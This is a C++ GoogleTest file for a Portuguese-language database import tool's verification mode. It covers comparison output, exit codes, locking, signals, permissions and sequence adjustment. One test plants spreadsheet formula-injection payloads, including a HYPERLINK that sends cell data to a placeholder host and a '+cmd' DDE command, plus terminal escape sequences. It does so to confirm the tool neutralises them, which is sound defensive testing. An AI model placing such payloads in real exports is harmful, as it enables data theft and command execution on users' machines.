// The batch program's --conferir after runs on databases of the test's own: its summary on
// standard output, conferencia.csv in the program folder and its exit status.
#include <gtest/gtest.h>
#include <signal.h>

#include <chrono>
#include <filesystem>
#include <thread>
#include <utility>

#include "batch_program.h"
#include "database_identity.h"
#include "import_fixture.h"
#include "run_lock.h"
#include "statement.h"
#include "test_connection.h"
#include "test_user.h"

namespace {

using test_support::BatchProgram;
using test_support::BatchResult;
using test_support::readFile;
using test_support::schemaFile;
using test_support::TestDatabase;

const std::string kAllTables = "clientes,fornecedores,produtos,vendedores";

struct SampleDatabases {
    TestDatabase source{schemaFile("tavlo-schema.sql") + "\n" + schemaFile("tavlo-sample-data.sql")};
    TestDatabase destination{schemaFile("merak-schema.sql") + "\n" + schemaFile("merak-sample-data.sql")};
    BatchProgram program;

    SampleDatabases() { program.writeSettings(source.path(), destination.path()); }

    BatchResult conferir(const std::string& tables = kAllTables) const {
        return program.run({"--conferir", "--tabelas", tables});
    }

    void change(const std::string& sql) const { destination.run(sql + ";\nCOMMIT;\n"); }
};

bool has(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

TEST(BatchVerify, AfterARunEveryTableMatchesApartFromTheExplainedRefusalsAndHandMadeChangesExitOne) {
    const SampleDatabases sample;
    const BatchResult run = sample.program.run({"--tabelas", kAllTables, "--sim", "--sem-copia"});
    ASSERT_EQ(run.status, 1) << run.err;  // the sample's refusals are logged

    const BatchResult matching = sample.conferir();
    EXPECT_EQ(matching.status, 0) << matching.out << matching.err;
    EXPECT_EQ(matching.err, "");
    for (const std::string& line : std::vector<std::string>{
             "CLIENTES: 30 iguais, 0 diferentes, 3 ausentes (3 explicados), 0 excedentes - confere\n",
             "  sequência GEN_CODCLI = 33, maior chave 32\n",
             "  ausente    chave 7: chave repetida na origem: a importação grava só a primeira\n",
             "  ausente    chave 16: Texto longo demais para COMPL (máximo 50)\n",
             "VENDEDOR: 10 iguais, 0 diferentes, 1 ausentes (1 explicados), 0 excedentes - confere\n",
             "Todas as diferenças: " + sample.program.folder() + "conferencia.csv\n",
             "O destino confere com a origem.\n"})
        EXPECT_TRUE(has(matching.out, line)) << line << "\n" << matching.out;

    sample.change("UPDATE FORNECEDORES SET FANTASIA = 'Mudado' WHERE CODIGO = 1");
    sample.change("DELETE FROM GRUPO WHERE ID_GRUPO = 3");
    const BatchResult differing = sample.conferir();
    EXPECT_EQ(differing.status, 1) << differing.out << differing.err;
    EXPECT_TRUE(has(differing.out,
                    "FORNECEDORES: 17 iguais, 1 diferentes, 1 ausentes (1 explicados), 0 excedentes - "
                    "NÃO CONFERE\n"))
        << differing.out;
    EXPECT_TRUE(has(differing.out, "  diferente  chave 1, FANTASIA: mapeamento \"")) << differing.out;
    EXPECT_TRUE(has(differing.out, "\", destino \"Mudado\"\n")) << differing.out;
    EXPECT_TRUE(has(differing.out, "  ausente    chave 3: sem explicação\n")) << differing.out;
    EXPECT_TRUE(has(differing.out, "O destino NÃO confere com a origem.\n"));
    const std::string csv = readFile(sample.program.folder() + "conferencia.csv");
    EXPECT_EQ(csv.rfind("\xEF\xBB\xBF", 0), 0u);
    EXPECT_TRUE(has(csv, "\r\nGRUPO;3;ausente;;;;\r\n")) << csv;
    EXPECT_TRUE(has(csv, ";Mudado;\r\n")) << csv;

    // Only the chosen tables are compared.
    const BatchResult vendedores = sample.conferir("vendedores");
    EXPECT_EQ(vendedores.status, 0) << vendedores.out;
    EXPECT_FALSE(has(vendedores.out, "GRUPO"));
}

TEST(BatchVerify, ExitsTwoWhenItCannotStart) {
    const SampleDatabases sample;
    // Another run imports into the destination.
    {
        test_support::TestConnection connection(sample.destination.connectionString());
        connection.attachment.open();
        const platform::DestinationLock otherRun(db::serverFileName(connection.attachment, connection.transaction));
        ASSERT_TRUE(otherRun.held());
        const BatchResult refused = sample.conferir();
        EXPECT_EQ(refused.status, 2);
        EXPECT_TRUE(has(refused.err, "Outra importação está gravando neste banco de destino")) << refused.err;
        EXPECT_EQ(refused.out, "");
    }
    // A destination that is not there.
    const BatchResult missing =
        sample.program.run({"--conferir", "--tabelas", "clientes", "--destino", sample.program.root() + "nada.fdb"});
    EXPECT_EQ(missing.status, 2);
    EXPECT_TRUE(has(missing.err, "Connectar")) << missing.err;
    // A command line it does not take.
    EXPECT_EQ(sample.program.run({"--conferir", "--tabelas", "clientes", "--sim"}).status, 2);
}

TEST(BatchVerify, TextsFromTheDatabasesReachTheCsvFilesAsTextAndTheTerminalWithTheirControlsShown) {
    // Seller 4's name is a formula too long for VEN_NOME: refused, and in recusadas.csv.
    const TestDatabase source(schemaFile("tavlo-schema.sql") +
                              "\nINSERT INTO VENDEDOR (ID, NOME) VALUES (1, 'Ana');\n"
                              "INSERT INTO VENDEDOR (ID, NOME) VALUES (2, 'Bia');\n"
                              "INSERT INTO VENDEDOR (ID, NOME) VALUES (3, 'Caio');\n"
                              "INSERT INTO VENDEDOR (ID, NOME) VALUES "
                              "(4, '=HYPERLINK(\"http://exemplo.invalido/?dados=\"&A1;\"clique aqui para ver\")');\n"
                              "INSERT INTO VENDEDOR (ID, NOME) VALUES (5, '@SUM(1+1)');\n");
    const TestDatabase destination(schemaFile("merak-schema.sql"));
    const BatchProgram program;
    program.writeSettings(source.path(), destination.path());
    const BatchResult run = program.run({"--tabelas", "vendedores", "--sim", "--sem-copia"});
    ASSERT_EQ(run.status, 1) << run.out << run.err;
    const std::string refused = readFile(program.folder() + "recusadas.csv");
    EXPECT_TRUE(has(refused,
                    "\r\nVENDEDOR;4;VEN_NOME;\"'=HYPERLINK(\"\"http://exemplo.invalido/?dados=\"\"&A1;"
                    "\"\"clique aqui para ver\"\")\";"))
        << refused;

    destination.run(
        "UPDATE VENDEDOR SET VEN_NOME = '+cmd|'' /C calc''!A0' WHERE VEN_CODIGO = 1;\n"
        "UPDATE VENDEDOR SET VEN_NOME = '-5' WHERE VEN_CODIGO = 2;\n"
        "UPDATE VENDEDOR SET VEN_NOME = 'Zé' || ASCII_CHAR(27) || '[2J' || ASCII_CHAR(7) || ASCII_CHAR(13) "
        "WHERE VEN_CODIGO = 3;\n"
        "UPDATE VENDEDOR SET VEN_NOME = 'Eva' WHERE VEN_CODIGO = 5;\n"
        "COMMIT;\n");
    const BatchResult compared = program.run({"--conferir", "--tabelas", "vendedores"});
    EXPECT_EQ(compared.status, 1) << compared.out << compared.err;
    EXPECT_TRUE(
        has(compared.out, "  diferente  chave 3, VEN_NOME: mapeamento \"Caio\", destino \"Zé\\x1b[2J\\x07\\x0d\"\n"))
        << compared.out;
    EXPECT_TRUE(has(compared.out, "  ausente    chave 4: Texto longo demais para VEN_NOME (máximo 50)\n"))
        << compared.out;
    for (const char control : {'\x1b', '\a', '\r'})
        EXPECT_EQ(compared.out.find(control), std::string::npos) << static_cast<int>(control);

    // A formula starts with an apostrophe; a number and any other text stay as they are.
    const std::string csv = readFile(program.folder() + "conferencia.csv");
    for (const std::string& line : std::vector<std::string>{
             "\r\nVENDEDOR;1;diferente;VEN_NOME;Ana;'+cmd|' /C calc'!A0;\r\n",
             "\r\nVENDEDOR;2;diferente;VEN_NOME;Bia;-5;\r\n",
             "\r\nVENDEDOR;3;diferente;VEN_NOME;Caio;\"Zé\x1b[2J\a\r\";\r\n",
             "\r\nVENDEDOR;5;diferente;VEN_NOME;'@SUM(1+1);Eva;\r\n",
         })
        EXPECT_TRUE(has(csv, line)) << line << "\n" << csv;
}

// Grants the right to SELECT on every table the comparison reads, and nothing else.
void grantSelectOnly(const SampleDatabases& sample, const std::string& user) {
    std::string destination;
    for (const char* table : {"CLIENTES", "FORNECEDORES", "GRUPO", "PRODUTOS", "VENDEDOR", "CIDADE"})
        destination += std::string("GRANT SELECT ON ") + table + " TO " + user + ";\n";
    sample.destination.run(destination);
    std::string source;
    for (const char* table : {"CLIENTE", "FORNECEDOR", "GRUPOS", "ESTOQUE", "CEST", "VENDEDOR"})
        source += std::string("GRANT SELECT ON ") + table + " TO " + user + ";\n";
    sample.source.run(source);
}

TEST(BatchVerify, AUserWithTheRightToSelectAloneGetsTheWholeComparisonAndEachSequenceSaysItCannotBeRead) {
    const SampleDatabases sample;
    ASSERT_EQ(sample.program.run({"--tabelas", kAllTables, "--sim", "--sem-copia"}).status, 1);
    const test_support::TestUser reader;
    grantSelectOnly(sample, reader.name());
    test_support::BatchStart how;
    how.env = {"ISC_USER=" + reader.name(), "ISC_PASSWORD=" + reader.password()};

    const BatchResult compared = sample.program.run({"--conferir", "--tabelas", kAllTables}, how);

    EXPECT_EQ(compared.status, 0) << compared.out << compared.err;
    for (const std::string& line : std::vector<std::string>{
             "CLIENTES: 30 iguais, 0 diferentes, 3 ausentes (3 explicados), 0 excedentes - confere\n",
             "  sequência GEN_CODCLI: sem permissão para ler a sequência, maior chave 32\n",
             "  sequência CODIGO_PRODUTO: sem permissão para ler a sequência, maior chave 32\n",
             "VENDEDOR: 10 iguais, 0 diferentes, 1 ausentes (1 explicados), 0 excedentes - confere\n",
             "O destino confere com a origem.\n"})
        EXPECT_TRUE(has(compared.out, line)) << line << "\n" << compared.out;
    EXPECT_FALSE(has(compared.out + compared.err, "permission")) << compared.out << compared.err;
}

TEST(BatchVerify, AComparisonMissingADestinationTableIsIncompleteAndExitsTwoWithOrWithoutAjustarSequencias) {
    const SampleDatabases sample;
    ASSERT_EQ(sample.program.run({"--tabelas", kAllTables, "--sim", "--sem-copia"}).status, 1);
    sample.change("DROP TABLE GRUPO");
    for (const bool adjusting : {false, true}) {
        SCOPED_TRACE(adjusting ? "--ajustar-sequencias" : "--conferir alone");
        std::vector<std::string> arguments = {"--conferir", "--tabelas", kAllTables};
        if (adjusting) arguments.insert(arguments.end(), {"--ajustar-sequencias", "--sim"});

        const BatchResult incomplete = sample.program.run(arguments);

        EXPECT_EQ(incomplete.status, 2) << incomplete.out << incomplete.err;
        for (const std::string& line : std::vector<std::string>{
                 "CLIENTES: 30 iguais, 0 diferentes, 3 ausentes (3 explicados), 0 excedentes - confere\n",
                 " - CONFERIDA SÓ EM PARTE\n", "Conferência incompleta: o destino não foi conferido por inteiro.\n",
                 "  Conferidas: CLIENTES, FORNECEDORES, PRODUTOS, VENDEDOR\n", "  Não conferida até o fim: GRUPO - "})
            EXPECT_TRUE(has(incomplete.out, line)) << line << "\n" << incomplete.out;
        EXPECT_FALSE(has(incomplete.out, "O destino NÃO confere")) << incomplete.out;
        EXPECT_FALSE(has(incomplete.out, "O destino confere")) << incomplete.out;
    }
}

TEST(BatchVerify, AComparisonStoppedByASignalIsIncompleteAndExitsWithTheSignalsStatus) {
    // A supplier table long enough to be stopped in the middle of, against an empty destination.
    const TestDatabase source(schemaFile("tavlo-schema.sql") +
                              "\nSET TERM ^ ;\n"
                              "EXECUTE BLOCK AS DECLARE I INTEGER = 1; BEGIN\n"
                              "  WHILE (I <= 200000) DO BEGIN\n"
                              "    INSERT INTO FORNECEDOR (CODIGO, NOME) VALUES (:I, 'Fornecedor ' || :I);\n"
                              "    I = I + 1;\n"
                              "  END\n"
                              "END^\n"
                              "SET TERM ; ^\n");
    const TestDatabase destination(schemaFile("merak-schema.sql"));
    for (const auto& [signal, status] : {std::pair{SIGINT, 130}, std::pair{SIGTERM, 143}}) {
        SCOPED_TRACE(status);
        const BatchProgram program;
        program.writeSettings(source.path(), destination.path());
        test_support::RunningBatch running = program.start({"--conferir", "--tabelas", "fornecedores,vendedores"});
        // conferencia.csv takes its first block once thousands of suppliers were compared.
        const std::string csv = program.folder() + "conferencia.csv";
        const auto limit = std::chrono::steady_clock::now() + std::chrono::seconds(60);
        while (!std::filesystem::exists(csv) || std::filesystem::file_size(csv) == 0) {
            ASSERT_FALSE(running.ended()) << running.errorsSoFar();
            ASSERT_LT(std::chrono::steady_clock::now(), limit);
            std::this_thread::sleep_for(std::chrono::milliseconds(10));
        }
        running.signal(signal);
        const BatchResult stopped = running.wait();

        EXPECT_EQ(stopped.signal, 0);
        EXPECT_EQ(stopped.status, status) << stopped.out << stopped.err;
        for (const std::string& line :
             std::vector<std::string>{" excedentes - CONFERIDA SÓ EM PARTE\n", "  falha: interrompida\n",
                                      "VENDEDOR: não conferida - interrompida antes desta tabela\n",
                                      "Conferência incompleta: o destino não foi conferido por inteiro.\n",
                                      "  Conferidas: nenhuma\n", "  A conferência foi interrompida.\n"})
            EXPECT_TRUE(has(stopped.out, line)) << line << "\n" << stopped.out;
        EXPECT_FALSE(has(stopped.out, "O destino NÃO confere")) << stopped.out;
    }
}

// The sample databases with the first source row of each table renumbered to a key above the
// others: rows that do not come in key order, so that each sequence restarts below the
// highest key its table holds.
struct SamplesOutOfOrder : SampleDatabases {
    SamplesOutOfOrder() {
        source.run(
            "UPDATE CLIENTE SET CODIGO = 901 WHERE CODIGO = 1;\n"
            "UPDATE FORNECEDOR SET CODIGO = 902 WHERE CODIGO = 1;\n"
            "UPDATE GRUPOS SET ID = 903 WHERE ID = 1;\n"
            "UPDATE ESTOQUE SET ID_GRUPO = 903 WHERE ID_GRUPO = 1;\n"
            "UPDATE ESTOQUE SET CODIGO = 904 WHERE CODIGO = 1;\n");
    }

    std::string sequence(const std::string& name) const {
        return test_support::queryRows(destination, "SELECT GEN_ID(" + name + ", 0) FROM RDB$DATABASE").at(0).at(0);
    }
    std::vector<std::string> sequences() const {
        return {sequence("GEN_CODCLI"), sequence("GEN_CODFOR"), sequence("GEN_ID_GRUPO"), sequence("CODIGO_PRODUTO")};
    }
};

const std::vector<std::string> kBehindNotes = {
    "  SEQUÊNCIA ATRASADA: GEN_CODCLI = 33, maior código 901\n",
    "  SEQUÊNCIA ATRASADA: GEN_CODFOR = 19, maior código 902\n",
    "  SEQUÊNCIA ATRASADA: GEN_ID_GRUPO = 15, maior código 903\n",
    "  SEQUÊNCIA ATRASADA: CODIGO_PRODUTO = 32, maior código 904\n",
};

TEST(BatchSequences, ThePreviewAndTheRunMarkEachSequenceLeftBehindWithBothNumbers) {
    const SamplesOutOfOrder sample;
    const BatchResult preview = sample.program.run({"--tabelas", kAllTables, "--simular"});
    const BatchResult run = sample.program.run({"--tabelas", kAllTables, "--sim", "--sem-copia"});
    ASSERT_EQ(run.status, 1) << run.err;
    for (const std::string& note : kBehindNotes) {
        EXPECT_TRUE(has(preview.out, note)) << note << preview.out;
        EXPECT_TRUE(has(run.out, note)) << note << run.out;
    }
    EXPECT_EQ(sample.sequences(), (std::vector<std::string>{"33", "19", "15", "32"}));
}

TEST(BatchSequences, AjustarSequenciasSetsEachBehindOneToItsHighestKeyAfterAYesAndNeverLowersOne) {
    const SamplesOutOfOrder sample;
    ASSERT_EQ(sample.program.run({"--tabelas", kAllTables, "--sim", "--sem-copia"}).status, 1);
    const std::vector<std::string> adjust = {"--conferir", "--tabelas", kAllTables, "--ajustar-sequencias"};

    // No one to answer: No, and nothing changes.
    const BatchResult unanswered = sample.program.run(adjust);
    EXPECT_EQ(unanswered.status, 1) << unanswered.out << unanswered.err;
    EXPECT_TRUE(has(unanswered.err, "GEN_CODFOR = 19, maior código em FORNECEDORES: 902 - ATRASADA, passa a 902\n"))
        << unanswered.err;
    EXPECT_TRUE(has(unanswered.out, "  GEN_CODFOR: 19, maior código 902 - CONTINUA ATRASADA\n")) << unanswered.out;
    EXPECT_EQ(sample.sequences(), (std::vector<std::string>{"33", "19", "15", "32"}));

    // Refused while another run holds the destination.
    {
        test_support::TestConnection connection(sample.destination.connectionString());
        connection.attachment.open();
        const platform::DestinationLock otherRun(db::serverFileName(connection.attachment, connection.transaction));
        ASSERT_TRUE(otherRun.held());
        std::vector<std::string> withSim = adjust;
        withSim.push_back("--sim");
        const BatchResult refused = sample.program.run(withSim);
        EXPECT_EQ(refused.status, 2);
        EXPECT_TRUE(has(refused.err, "Outra importação está gravando neste banco de destino")) << refused.err;
        EXPECT_EQ(sample.sequences(), (std::vector<std::string>{"33", "19", "15", "32"}));
    }

    // A sequence above its highest key stays where it is.
    sample.change("SET GENERATOR GEN_CODFOR TO 5000");
    std::vector<std::string> withSim = adjust;
    withSim.push_back("--sim");
    const BatchResult adjusted = sample.program.run(withSim);
    EXPECT_EQ(adjusted.status, 0) << adjusted.out << adjusted.err;
    for (const std::string& line : std::vector<std::string>{
             "  GEN_CODCLI: 33 -> 901 - AJUSTADA\n", "  GEN_CODFOR: 5000, maior código 902 - não estava atrasada\n",
             "  GEN_ID_GRUPO: 15 -> 903 - AJUSTADA\n", "  CODIGO_PRODUTO: 32 -> 904 - AJUSTADA\n"})
        EXPECT_TRUE(has(adjusted.out, line)) << line << adjusted.out;
    EXPECT_EQ(sample.sequences(), (std::vector<std::string>{"901", "5000", "903", "904"}));

    const BatchResult again = sample.conferir();
    EXPECT_EQ(again.status, 0) << again.out;
    EXPECT_FALSE(has(again.out, "ATRASADA")) << again.out;
}

TEST(BatchSequences, WithoutTheRightToChangeASequenceNoneIsChangedAndItSaysSo) {
    const SamplesOutOfOrder sample;
    ASSERT_EQ(sample.program.run({"--tabelas", kAllTables, "--sim", "--sem-copia"}).status, 1);
    const test_support::TestUser reader;
    std::string grants;
    for (const char* table : {"CLIENTES", "FORNECEDORES", "GRUPO", "PRODUTOS", "VENDEDOR", "CIDADE"})
        grants += std::string("GRANT SELECT ON ") + table + " TO " + reader.name() + ";\n";
    for (const char* sequence : {"GEN_CODCLI", "GEN_CODFOR", "GEN_ID_GRUPO", "CODIGO_PRODUTO"})
        grants += std::string("GRANT USAGE ON SEQUENCE ") + sequence + " TO " + reader.name() + ";\n";
    sample.destination.run(grants);
    sample.source.run("GRANT SELECT ON CLIENTE TO " + reader.name() + ";\nGRANT SELECT ON FORNECEDOR TO " +
                      reader.name() + ";\nGRANT SELECT ON GRUPOS TO " + reader.name() +
                      ";\nGRANT SELECT ON ESTOQUE TO " + reader.name() + ";\nGRANT SELECT ON CEST TO " + reader.name() +
                      ";\nGRANT SELECT ON VENDEDOR TO " + reader.name() + ";\n");
    test_support::BatchStart how;
    how.env = {"ISC_USER=" + reader.name(), "ISC_PASSWORD=" + reader.password()};
    const BatchResult refused =
        sample.program.run({"--conferir", "--tabelas", kAllTables, "--ajustar-sequencias", "--sim"}, how);
    EXPECT_EQ(refused.status, 1) << refused.out << refused.err;
    EXPECT_TRUE(has(refused.err, "Sem permissão para alterar as sequências do destino: nenhuma foi alterada.\n"))
        << refused.err;
    EXPECT_EQ(sample.sequences(), (std::vector<std::string>{"33", "19", "15", "32"}));
}

}  // namespace
